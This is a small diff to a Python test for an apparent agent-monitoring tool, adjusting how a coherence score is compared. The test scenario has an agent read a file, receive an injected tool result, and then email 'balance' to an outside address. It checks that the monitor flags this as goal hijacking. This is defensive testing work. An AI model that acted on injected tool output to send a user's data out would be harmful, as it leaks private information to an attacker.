@@ -103,11 +103,11 @@ def test_explain_in_a_monitor_it_counts_in_the_index() -> None:
         read = m.tool_call("read_file", {"path": "bill.txt"})
         m.decide()
         assert m.latest is not None
-        calm = m.latest.coherence_index
+        calm = m.latest.coherence_index or 0.0
         m.tool_result(INJECTED, call=read)
         m.tool_call("send_email", {"to": "eve@x.org", "body": "balance"})
         m.decide()
-        assert m.latest.coherence_index < calm
+        assert (m.latest.coherence_index or 1.0) < calm
         assert m.latest.worst() == "goal_hijack"
         assert INJECTED in m.latest.explain()
         m.message("user", "What was that?")
